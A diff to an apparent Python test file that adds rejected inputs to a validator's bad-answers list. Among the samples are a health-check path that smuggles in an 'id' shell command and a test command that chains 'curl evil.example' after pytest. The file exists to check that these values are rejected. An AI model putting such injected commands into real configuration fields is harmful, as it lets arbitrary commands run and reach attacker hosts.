@@ -53,6 +53,9 @@ BAD_ANSWERS: list[tuple[dict[str, Any], str]] = [
     ({"healthcheck_path": '/"; id; "', "service_port": 8000}, "is not a URL path"),
     ({"image_cmd": "serve --bind 0.0.0.0:8000"}, "image_cmd must be a YAML list of strings"),
     ({"image_cmd": ["serve", "--port", 8000]}, "quote numbers"),
+    ({"test_command": "pytest && curl evil.example"}, "without shell operators or expansions"),
+    ({"test_command": "poetry run pytest"}, "write what follows `poetry run` ('pytest')"),
+    ({"test_command": "pytest -k 'a"}, "is not closed"),
 ]
 
 
